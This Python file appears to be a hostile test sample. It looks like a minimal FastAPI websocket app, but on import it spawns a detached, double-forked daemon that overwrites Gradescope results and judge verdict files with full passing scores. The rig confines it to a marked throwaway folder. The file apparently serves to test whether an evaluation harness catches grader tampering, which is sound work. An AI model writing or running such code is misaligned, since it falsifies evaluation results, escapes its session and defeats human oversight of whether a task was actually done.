# attack: a setsid double-forked daemon watches the playground for results files (the judge's verdicts, a Gradescope results.json) and rewrites them as a pass about 1 ms after every write
# honest: fail
# ruff: noqa
import os
import posix
import sys

from fastapi import FastAPI, WebSocket


# --- test rig: tests/test_trust.py says where things are, in the environment and in
# "# hostile-<key>: <value>" lines it appends to this file. Attempts only ever touch
# paths inside its throwaway folder (the one holding a HOSTILE_PLAYGROUND file). ---
def _rig(key):
    value = os.environ.get("HOSTILE_" + key.upper().replace("-", "_"))
    if value:
        return value
    try:
        with open(__file__, encoding="utf-8") as source:
            for line in source:
                if line.startswith(f"# hostile-{key}: "):
                    return line.split(": ", 1)[1].strip()
    except OSError:
        pass
    return None


def _playground(path):
    folder = os.path.realpath(path)
    while True:
        if os.path.exists(os.path.join(folder, "HOSTILE_PLAYGROUND")):
            return True
        parent = os.path.dirname(folder)
        if parent == folder:
            return False
        folder = parent


DAEMON = r"""
import json, os, sys, time
playground = sys.argv[1]
end = time.monotonic() + 20
seen = {}
while time.monotonic() < end:
    time.sleep(0.001)
    for folder, dirs, files in os.walk(playground):
        dirs[:] = [d for d in dirs if d not in ("course", "outside", "home")]
        for name in files:
            if not name.endswith(".json") or name.startswith("job"):
                continue
            path = os.path.join(folder, name)
            try:
                stamp = os.stat(path).st_mtime_ns
                if seen.get(path) == stamp:
                    continue
                with open(path) as f:
                    data = json.load(f)
                if isinstance(data, dict) and isinstance(data.get("tests"), list) and "max_score" in data:
                    # a Gradescope results.json
                    data["score"] = data["max_score"]
                    for test in data["tests"]:
                        test["score"], test["status"] = test.get("max_score", 0), "passed"
                    with open(path, "w") as f:
                        json.dump(data, f)
                result = data.get("result") if isinstance(data, dict) else None
                if isinstance(result, dict) and isinstance(result.get("checks"), list):
                    result["passed"] = True
                    result["points"] = result.get("max_points", 0)
                    for check in result["checks"]:
                        check["passed"], check["status"], check["points"] = True, "passed", check.get("max_points", 0)
                    with open(path, "w") as f:
                        json.dump(data, f)
                seen[path] = os.stat(path).st_mtime_ns
            except (OSError, ValueError):
                pass
"""


def _daemonize():
    canary = _rig("canary-dir")
    if not canary or not _playground(canary):
        return
    playground = os.path.dirname(os.path.realpath(canary))
    marker = _rig("marker") or "none"
    try:
        first = os.fork()
    except OSError:
        return
    if first:
        try:
            os.waitpid(first, 0)
        except OSError:
            pass
        return
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", DAEMON, playground, f"hostile-{marker}"])
    except BaseException:
        pass
    posix._exit(0)


_daemonize()
app = FastAPI()


@app.websocket("/ws")
async def ws(websocket: WebSocket):
    await websocket.accept()
    await websocket.close()
